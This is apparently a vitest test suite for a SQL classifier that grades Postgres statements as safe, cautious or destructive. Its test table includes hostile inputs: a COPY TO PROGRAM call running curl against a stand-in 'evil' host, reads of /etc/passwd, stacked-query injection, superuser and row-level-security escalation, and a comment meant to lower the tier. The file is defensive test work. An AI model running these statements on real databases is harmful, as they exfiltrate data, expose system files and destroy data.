import { classify, init, type Tier } from '@ddl/classifier'
import { beforeAll, describe, expect, it } from 'vitest'

beforeAll(async () => {
  await init()
})

function tierOf(sql: string): Tier {
  return classify(sql)._unsafeUnwrap().tier
}

/** The seed's tier tables, and the required behaviour. */
const table: ReadonlyArray<readonly [Tier, string]> = [
  ['safe', 'CREATE TABLE campaigns (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), name text NOT NULL)'],
  ['safe', 'CREATE INDEX campaigns_status_idx ON campaigns(status)'],
  ['safe', "CREATE TYPE mood AS ENUM ('sad', 'ok')"],
  ['safe', 'CREATE EXTENSION IF NOT EXISTS pgcrypto'],
  ['safe', 'CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS $$ SELECT a + b $$'],
  ['safe', 'CREATE SCHEMA billing'],
  ['safe', 'CREATE SEQUENCE order_seq'],
  ['safe', 'CREATE VIEW active AS SELECT * FROM users WHERE active'],
  ['safe', 'ALTER TABLE users ADD COLUMN phone text'],
  ['safe', 'ALTER TABLE users ADD COLUMN verified boolean DEFAULT false'],
  ['safe', 'ALTER TABLE users RENAME COLUMN phone TO phone_number'],
  ['safe', 'ALTER TABLE users RENAME TO people'],
  ['safe', "COMMENT ON TABLE users IS 'people'"],
  ['safe', "SELECT count(*) FROM users WHERE created_at > '2026-01-01'"],
  ['safe', "INSERT INTO users (name) VALUES ('a')"],
  ['safe', 'EXPLAIN DELETE FROM users'],
  ['safe', "SELECT pg_catalog.lower('x')"],
  ['cautious', 'ALTER TABLE users DROP COLUMN phone'],
  ['cautious', 'TRUNCATE test_data'],
  ['cautious', 'DELETE FROM users WHERE id = 1'],
  ['cautious', "UPDATE users SET name = 'x' WHERE id = 1"],
  ['cautious', 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = s.x'],
  ['cautious', 'GRANT SELECT ON users TO reader'],
  ['cautious', 'REVOKE SELECT ON users FROM reader'],
  ['cautious', 'SET ROLE admin'],
  ['cautious', 'SET SESSION AUTHORIZATION admin'],
  ['cautious', 'SET session_replication_role = replica'],
  ['cautious', 'SET default_transaction_read_only = off'],
  ['cautious', 'SELECT my_function()'],
  ['cautious', "SELECT public.lower('x')"],
  ['cautious', 'DELETE FROM users WHERE id IN (SELECT user_id FROM expired)'],
  ['cautious', 'DELETE FROM users u USING accounts a WHERE u.account_id = a.id'],
  ['destructive', 'DROP TABLE old_backup'],
  ['destructive', 'DROP SCHEMA public'],
  ['destructive', 'DROP DATABASE shop'],
  ['destructive', 'DROP FUNCTION f()'],
  ['destructive', 'DROP VIEW v'],
  ['destructive', 'DROP MATERIALIZED VIEW mv'],
  ['destructive', 'DROP SEQUENCE s'],
  // Postgres refuses DROP TYPE while any column uses it: without CASCADE nothing is lost.
  ['safe', 'DROP TYPE mood'],
  ['destructive', 'DROP TYPE mood CASCADE'],
  ['destructive', 'DROP EXTENSION pgcrypto'],
  ['destructive', 'DELETE FROM users'],
  ['destructive', "UPDATE users SET name = 'x'"],
  ['destructive', 'ALTER TABLE users DROP CONSTRAINT users_pkey'],
  ['destructive', 'TRUNCATE users CASCADE'],
  ['destructive', 'ALTER TABLE users DROP COLUMN x CASCADE'],
  ['destructive', 'DELETE FROM users WHERE true'],
  ['destructive', 'DELETE FROM users WHERE 1 = 1'],
  ['destructive', "DELETE FROM users WHERE 'a' = 'a'"],
  ['destructive', 'DELETE FROM users WHERE NOT false'],
  ['destructive', 'DELETE FROM users WHERE id = id'],
  ['destructive', 'DELETE FROM users WHERE id = 5 OR true'],
  ['destructive', 'DELETE FROM users WHERE EXISTS (SELECT 1 FROM other WHERE other.x = 1)'],
  ['destructive', 'DELETE FROM users USING accounts'],
  ['destructive', 'DELETE FROM users WHERE EXISTS (SELECT 1 FROM other WHERE id = 1)'],
  ['destructive', 'DELETE FROM users u USING accounts a WHERE a.active'],
  ['destructive', 'UPDATE users SET name = a.name FROM accounts a'],
  ['destructive', 'WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d'],
  ['destructive', 'EXPLAIN ANALYZE DELETE FROM users'],
  ['destructive', 'EXPLAIN (ANALYZE) DELETE FROM users'],
  ['destructive', 'PREPARE p AS DELETE FROM users'],
  ['destructive', 'CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM users'],
  ['destructive', 'SELECT 1; DROP TABLE users'],
  ['destructive', 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity'],
  ['destructive', 'SELECT "PG_CATALOG"."PG_TERMINATE_BACKEND"(1)'],
  ['destructive', "SELECT * FROM pg_read_file('/etc/passwd')"],
  ['destructive', 'SELECT x FROM t WHERE lo_unlink(x) > 0'],
  ['destructive', "INSERT INTO t VALUES (dblink_exec('host=x', 'drop table y'))"],
  ['destructive', "SELECT set_config('session_replication_role', 'replica', false)"],
  ['destructive', "SELECT set_config('default_transaction_read_only', 'off', false)"],
  ['destructive', 'DO $$ BEGIN DELETE FROM users; END $$'],
  ['destructive', "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$"],
  ['destructive', "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$"],
  ['destructive', "DO $$ DECLARE t text := 'users'; BEGIN EXECUTE 'TRUNCATE ' || t; END $$"],
  // A definition loses nothing; the script that defines and calls it runs the body.
  ['safe', 'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$'],
  ['destructive', 'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$; SELECT f()'],
  ['safe', 'CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END'],
  ['destructive', 'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END; CALL p()'],
  ['cautious', 'CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$'],
  // A definition whose body reaches outside the transaction is an alias of the escape.
  ['destructive', 'CREATE FUNCTION k(int) RETURNS bool LANGUAGE sql AS $$ SELECT pg_terminate_backend($1) $$'],
  ['destructive', "COPY users TO PROGRAM 'curl http://evil'"],
  ['destructive', "COPY users FROM '/etc/passwd'"],
  ['destructive', "ALTER SYSTEM SET wal_level = 'minimal'"],
  ['destructive', 'CREATE ROLE boss SUPERUSER'],
  ['destructive', 'ALTER ROLE app BYPASSRLS'],
  ['destructive', 'REASSIGN OWNED BY a TO b'],
  ['destructive', 'DROP OWNED BY a'],
  ['destructive', 'DROP ROLE a'],
  ['destructive', 'EXECUTE unknown_plan'],
  ['destructive', 'ALTER TABLE t DISABLE ROW LEVEL SECURITY'],
  ['destructive', 'DROP POLICY p ON t'],
  ['destructive', "SET client_encoding = 'SJIS'"],
  ['destructive', "SELECT set_config('standard_conforming_strings', 'off', false)"],
]

describe('classify', () => {
  for (const [tier, sql] of table) {
    it(`classifies ${sql} as ${tier}`, () => {
      expect(tierOf(sql)).toBe(tier)
    })
  }

  it('classifies an ALTER TABLE by its most dangerous action', () => {
    expect(tierOf('ALTER TABLE t ADD COLUMN a int, DROP COLUMN b')).toBe('cautious')
    expect(tierOf('ALTER TABLE t ADD COLUMN a int, DROP CONSTRAINT c')).toBe('destructive')
  })

  it('keeps each statement’s exact text and position', () => {
    const sql = '-- set up\nCREATE TABLE é (a int);\n  DROP TABLE é ;'
    const p = classify(sql)._unsafeUnwrap()
    expect(p.statements.map((s) => [s.text, s.span.line, s.span.column, s.kind])).toEqual([
      ['CREATE TABLE é (a int)', 2, 1, 'CreateStmt'],
      ['DROP TABLE é', 3, 3, 'DropStmt'],
    ])
    for (const s of p.statements) expect(sql.slice(s.span.offset, s.span.offset + s.span.length)).toBe(s.text)
  })

  it('classifies the other statements of a script when one is rejected by the grammar', () => {
    const p = classify('CREATE TABLE a (x int); DROP TABLE TABLE b; DELETE FROM c')._unsafeUnwrap()
    expect(p.statements.map((s) => [s.kind, s.verdict.tier])).toEqual([
      ['CreateStmt', 'safe'],
      ['Unparsed', 'destructive'],
      ['DeleteStmt', 'destructive'],
    ])
    expect(p.hasParseErrors).toBe(true)
    expect(p.statements[1]?.parseError?.line).toBe(1)
  })

  it('never calls text the grammar rejects safe', () => {
    expect(tierOf('SELEC 1')).not.toBe('safe')
    expect(tierOf('select 123abc')).not.toBe('safe')
  })

  it('marks statements that cannot run in a transaction', () => {
    const p = classify('CREATE INDEX CONCURRENTLY i ON t (x); VACUUM t; CREATE INDEX j ON t (x)')._unsafeUnwrap()
    expect(p.statements.map((s) => s.verdict.transactional)).toEqual([false, false, true])
  })

  it('marks statements whose effects a rollback cannot undo', () => {
    const p = classify(
      "DELETE FROM t; SELECT pg_terminate_backend(1); SELECT my_fn(); COPY t TO PROGRAM 'x'; DO $$ BEGIN PERFORM lo_unlink(1); END $$; SELECT nextval('s')",
    )._unsafeUnwrap()
    expect(p.statements.map((s) => s.verdict.rollbackSafe)).toEqual([true, false, false, false, false, true])
  })

  it('reads the options that decide whether a statement can run in a transaction', () => {
    const transactional = (sql: string) => classify(sql)._unsafeUnwrap().statements[0]?.verdict.transactional
    expect(transactional('REINDEX (CONCURRENTLY) TABLE t')).toBe(false)
    expect(transactional('REINDEX TABLE t')).toBe(true)
    expect(transactional('ALTER DATABASE d SET TABLESPACE x')).toBe(false)
    expect(transactional("CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p")).toBe(false)
    expect(transactional("CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p WITH (create_slot = false)")).toBe(true)
    expect(transactional("CREATE SUBSCRIPTION s CONNECTION 'x' PUBLICATION p WITH (connect = off)")).toBe(true)
  })

  it('names transaction control', () => {
    const p = classify('BEGIN; COMMIT; ROLLBACK; SAVEPOINT a; END')._unsafeUnwrap()
    expect(p.statements.map((s) => s.verdict.transactionControl)).toEqual([
      'BEGIN',
      'COMMIT',
      'ROLLBACK',
      'SAVEPOINT',
      'COMMIT',
    ])
  })

  it('treats an empty or comment-only script as no statements', () => {
    for (const sql of ['', '   ', '-- nothing\n/* here */']) {
      const p = classify(sql)._unsafeUnwrap()
      expect(p.statements).toEqual([])
      expect(p.tier).toBe('safe')
    }
  })

  it('refuses a NUL byte and unpaired surrogates with an InputError', () => {
    expect(classify('SELECT 1;\u0000DROP TABLE t')._unsafeUnwrapErr().kind).toBe('InputError')
    expect(classify('SELECT 1 -- \ud800')._unsafeUnwrapErr().kind).toBe('InputError')
  })

  it('survives input that exhausts the parser, and keeps working after it', () => {
    const deep = `SELECT ${Array(20000).fill('1').join('+')}`
    for (let i = 0; i < 5; i++) {
      const p = classify(deep)._unsafeUnwrap()
      expect(p.tier).not.toBe('safe')
    }
    const parens = `SELECT ${'('.repeat(10000)}1${')'.repeat(10000)}`
    expect(classify(parens)._unsafeUnwrap().tier).not.toBe('safe')
    expect(classify('DROP TABLE users')._unsafeUnwrap().tier).toBe('destructive')
    expect(classify('SELECT 1')._unsafeUnwrap().tier).toBe('safe')
  })

  it('lets policy move a rule and allow named objects', () => {
    const policy = {
      rules: { truncate: 'destructive' as const },
      allow: [{ rule: 'drop-table', objects: ['scratch.*'] }],
    }
    expect(classify('TRUNCATE t', { policy })._unsafeUnwrap().tier).toBe('destructive')
    expect(classify('DROP TABLE scratch.tmp1', { policy })._unsafeUnwrap().tier).toBe('safe')
    expect(classify('DROP TABLE public.users', { policy })._unsafeUnwrap().tier).toBe('destructive')
  })

  it('does not let policy call what the engine cannot read safe', () => {
    const policy = { rules: { 'unknown-statement': 'safe' as const, 'dynamic-sql': 'safe' as const } }
    expect(classify("DO $$ BEGIN EXECUTE 'x' || 'y'; END $$", { policy })._unsafeUnwrap().tier).not.toBe('safe')
  })

  it('does not let a comment lower a tier', () => {
    expect(tierOf('/* ddl: safe */ DROP TABLE users -- iKnowWhatImDoing')).toBe('destructive')
  })

  it('requires the flag of the script tier', () => {
    expect(classify('CREATE TABLE a (x int)')._unsafeUnwrap().requires).toBe('none')
    expect(classify('TRUNCATE a')._unsafeUnwrap().requires).toBe('confirm')
    expect(classify('DROP TABLE a')._unsafeUnwrap().requires).toBe('iKnowWhatImDoing')
  })
})
